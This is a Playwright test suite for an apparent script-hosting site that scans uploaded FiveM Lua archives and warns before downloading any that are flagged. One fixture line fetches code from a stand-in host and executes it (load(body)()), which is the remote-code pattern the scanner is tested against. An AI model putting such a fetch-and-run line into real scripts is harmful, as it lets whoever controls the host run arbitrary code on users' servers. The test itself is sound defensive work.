import { randomBytes } from 'node:crypto'

import { expect, type APIRequestContext, type Locator, type Page } from '@playwright/test'

import { zipOf } from '#test-support/archives/zip.ts'

import { expectNoViolations } from './axe.ts'
import {
  delayRequests,
  expectFocusNotLost,
  recordLayoutShifts,
  twoFrames,
  waitForHydration,
  withoutFonts,
} from './browser.ts'
import { test } from './fixtures.ts'
import {
  registerModerator,
  registerUploader,
  registerUser,
  signInPage,
  submitScript,
  type RegisteredUser,
} from './users.ts'

const title = 'Runs code that it downloads'

const suspect = "PerformHttpRequest('https://api.example.com/rates', function(_, body) load(body)() end)\n"

const unique = (text: string) => `-- ${randomBytes(8).toString('hex')}\n${text}`

/** No other test has its files. The code of `suspect` is a finding of severity high. */
function archiveOf(code: string, otherFiles = 0): Buffer {
  const manifest = "fx_version 'cerulean'\ngame 'gta5'\nserver_script 'server.lua'\n"
  return zipOf([
    { name: 'fines/fxmanifest.lua', content: manifest, deflate: true },
    { name: 'fines/server.lua', content: unique(code), deflate: true },
    ...Array.from({ length: otherFiles }, (_, n) => ({
      name: `fines/rates/${n}.lua`,
      content: unique(`local rate = ${n}\n`.repeat(400)),
      deflate: true,
    })),
  ])
}

async function newReport(author: RegisteredUser, request: APIRequestContext) {
  const script = await submitScript(author, { archive: archiveOf(suspect) })
  const readState = async () => {
    const response = await request.get(`/api/scripts/${script.id}`)
    return (await response.json()).analysis?.state
  }
  await expect.poll(readState).toBe('done')
  return script
}

const head = /^Check first: runs code that it downloads, in fines\/server\.lua/
const main = (page: Page) => page.getByRole('main')
const downloadButton = (page: Page) => main(page).getByRole('button', { name: /^Download/ })

test('a member reads what is in an archive, and a download with something to check asks once', async ({
  page,
  request,
}) => {
  const script = await newReport(await registerUploader(), request)
  await signInPage(page, await registerUser('member'))
  await page.goto(`/scripts/${script.id}`)
  await expect(main(page).getByText(head)).toBeVisible()

  await downloadButton(page).click()
  const dialog = page.getByRole('dialog', { name: '1 thing to check first' })
  await expect(dialog.getByRole('listitem')).toHaveText([title])
  await expect(dialog.getByText(/^In fines\/server\.lua:2\. The code does this\./)).toBeVisible()
  await expectNoViolations(page, [1440, 390])
  await dialog.getByRole('link', { name: 'Read the report' }).click()

  await expect(page).toHaveURL(`/scripts/${script.id}/report`)
  await expect(page.getByRole('heading', { level: 1 })).toHaveText(script.name)
  await expect(page).toHaveTitle(`Report: ${script.name} · Scripthaven`)
  await expect(main(page).getByRole('heading', { name: title })).toBeVisible()
  await expect(main(page).getByText(/does not prove that a script is harmless/)).toBeVisible()
  await expectNoViolations(page)
  await main(page).getByRole('link', { name: 'Overview' }).click()
  for (const isAsked of [true, false]) {
    const saving = page.waitForEvent('download')
    await downloadButton(page).click()
    if (isAsked) await page.getByRole('button', { name: 'Download anyway' }).click()
    expect((await saving).suggestedFilename()).toBe(`${script.name} 1.2.0.zip`)
    await expect(dialog).toHaveCount(0)
  }
})

async function box(element: Locator) {
  const area = await element.boundingBox()
  if (!area) throw new Error('The element is not on the page')
  return area
}

for (const width of [1440, 390])
  test(`what is inside is beside Download and above the description at ${width} px`, async ({
    page,
    request,
  }) => {
    const script = await newReport(await registerUploader(), request)
    await page.setViewportSize({ width, height: 900 })
    await page.goto(`/scripts/${script.id}`)

    const line = await box(main(page).getByText(head))
    const download = await box(downloadButton(page))
    const description = await box(main(page).getByText('A garage where players keep').last())
    // At most the height of the panel that has both, and the figures below the button.
    expect(line.y - download.y).toBeGreaterThan(0)
    expect(line.y - download.y).toBeLessThan(450)
    if (width === 1440) expect(Math.abs(line.x - download.x)).toBeLessThan(80)
    else expect(line.y).toBeLessThan(description.y)
  })

for (const [result, code, text] of [
  ['without findings', "RegisterCommand('fine', print)", 'No known suspicious patterns'],
  ['with a finding', suspect, head],
] as const)
  for (const width of [1440, 390])
    test(`nothing moves when a scan ends ${result} while its page is read, at ${width} px`, async ({
      page,
    }) => {
      await page.setViewportSize({ width, height: 900 })
      const script = await submitScript(await registerUploader(), { archive: archiveOf(code, 16) })
      const delay = await delayRequests(page, `**/api/scripts/${script.id}`)
      await withoutFonts(page)
      const shifts = await recordLayoutShifts(page)
      await page.goto(`/scripts/${script.id}`)
      await expect(main(page).getByText(/^(Waiting for the scan|Scanning the archive)/)).toBeVisible()
      await page.waitForLoadState()
      await twoFrames(page)
      const before = await shifts()

      delay.release()
      await expect(main(page).getByText(text)).toBeVisible()

      await twoFrames(page)
      expect(await shifts()).toEqual(before)
    })

test('a place in the report opens its line in the same document, and Back returns to it', async ({
  page,
  request,
}) => {
  const script = await newReport(await registerUploader(), request)
  await page.goto(`/scripts/${script.id}/report`)
  const place = main(page)
    .getByRole('link', { name: /fines\/server\.lua:\d+$/ })
    .last()
  await place.scrollIntoViewIfNeeded()
  await waitForHydration(place)
  const documents: string[] = []
  page.on('request', (sent) => {
    if (sent.isNavigationRequest()) documents.push(sent.url())
  })
  await place.press('Enter')

  await expect(page).toHaveURL(/\/files\/fines\/server\.lua#L\d+$/)
  await expect(page.locator('[data-selected]')).toBeInViewport()
  await expect(main(page)).toBeFocused()
  await page.goBack()
  await expect(place).toBeInViewport()
  expect(documents).toEqual([])
})

test('who decides against the download gets none', async ({ page, request }) => {
  const script = await newReport(await registerUploader(), request)
  await signInPage(page, await registerUser('member'))
  await page.goto(`/scripts/${script.id}`)
  const calls: string[] = []
  page.on('request', (made) => {
    if (made.url().endsWith('/download')) calls.push(made.url())
  })

  await downloadButton(page).click()
  await page.getByRole('dialog').getByRole('button', { name: 'Close' }).click()

  await expect(downloadButton(page)).toHaveText(/^Download/)
  await expect(main(page).getByText('Your download has started.')).toHaveCount(0)
  expect(calls).toEqual([])
})

test('the author comments on a finding, and a moderator accepts it and undoes that', async ({
  browser,
  page,
  request,
}) => {
  const [author, moderator] = [await registerUploader(), await registerModerator()]
  const script = await newReport(author, request)
  await signInPage(page, author)
  await page.goto(`/scripts/${script.id}/report`)

  await main(page)
    .getByRole('button', { name: `Comment on “${title}” in fines/server.lua` })
    .click()
  const comment = main(page).getByRole('textbox', { name: 'Your comment' })
  await expect(comment).toBeFocused()
  await comment.fill('The rates of the tax office.')
  await main(page).getByRole('button', { name: 'Save comment' }).click()
  await expect(main(page).getByRole('figure')).toContainText('The rates of the tax office.')
  await expect(main(page).getByRole('button', { name: /^Edit comment/ })).toBeFocused()
  await expect(main(page).getByRole('button', { name: /^Accept/ })).toHaveCount(0)

  const other = await browser.newContext()
  const review = await other.newPage()
  await signInPage(review, moderator)
  await review.goto(`/scripts/${script.id}/report`)
  await expect(main(review).getByRole('button', { name: /^Comment/ })).toHaveCount(0)
  await main(review)
    .getByRole('button', { name: `Accept “${title}” in fines/server.lua` })
    .click()
  await main(review).getByRole('button', { name: 'Accept', exact: true }).click()
  await expect(main(review).getByText('Please write at least 3 characters')).toBeVisible()
  await main(review).getByRole('textbox', { name: 'Why is it accepted?' }).fill('Read it: a list of rates.')
  await expectNoViolations(review, [1440, 390])
  await main(review).getByRole('button', { name: 'Accept', exact: true }).click()
  await expectFocusNotLost(review)
  await main(review).getByText('1 finding accepted by a moderator').click()
  await expect(main(review).getByText('Read it: a list of rates.')).toBeVisible()
  await expect(main(review).getByText(head)).toHaveCount(0)
  await main(review)
    .getByRole('button', { name: /^Undo the decision/ })
    .click()
  await expect(main(review).getByText(head)).toBeVisible()
  await other.close()
})

test('the rules', async ({ page }) => {
  await page.goto('/rules#runs-downloaded-code')
  await expect(main(page).getByRole('heading', { name: title })).toBeInViewport()
  await expectNoViolations(page)
})

test('a report that cannot be loaded shows an error, and Try Again loads it', async ({ page, request }) => {
  const script = await newReport(await registerUploader(), request)
  const api = '**/api/versions/*/report'
  await page.route(api, (route) => route.abort())
  await page.goto(`/scripts/${script.id}`)
  const link = main(page).getByRole('link', { name: 'Read the report' })
  await waitForHydration(link)
  await link.click()
  await expect(page.getByRole('heading', { name: 'Failed to load report' })).toBeVisible()

  await page.unroute(api)
  await page.getByRole('button', { name: 'Try Again' }).click()

  await expect(main(page).getByText(head)).toBeVisible()
})
